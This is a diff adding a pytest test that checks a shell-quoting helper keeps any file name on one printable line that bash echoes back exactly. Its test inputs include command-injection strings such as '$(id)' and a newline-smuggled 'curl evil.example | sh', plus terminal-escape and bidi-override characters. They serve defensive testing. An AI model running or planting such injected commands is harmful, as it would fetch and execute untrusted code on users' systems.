@@ -4,12 +4,13 @@ from __future__ import annotations
 
 import errno
 import os
+import subprocess
 from contextlib import chdir
 from pathlib import Path
 
 import pytest
 
-from cictl.files import from_home, how_to_write
+from cictl.files import from_home, how_to_write, quoted
 
 
 @pytest.mark.parametrize(
@@ -40,3 +41,25 @@ def test_a_file_that_may_not_be_replaced_is_one_of_a_folder_that_may_not_be_writ
     with chdir(tmp_path):
         hint = how_to_write(Path("outputs") / "a.png", OSError(errno.EACCES, ""))
     assert "chmod -R u+rwX outputs;" in hint
+
+
+@pytest.mark.skipif(os.name == "nt", reason="there is no bash")
+@pytest.mark.parametrize(
+    "name",
+    [
+        "plain",
+        "two words",
+        "it's",
+        "$(id)`id`",
+        "a\ncurl evil.example | sh",
+        "\x1b]0;title\x07",
+        "'\n\\",
+        "\u2028\u202egnp",
+        "\udcff",
+    ],
+)
+def test_a_name_in_a_command_is_one_word_on_one_line_whatever_is_in_it(name: str):
+    typed = quoted(name)
+    assert typed.isprintable() and len(typed.splitlines()) == 1
+    told = subprocess.run(["bash", "-c", f"printf %s {typed}"], capture_output=True, check=True)
+    assert told.stdout == os.fsencode(name)
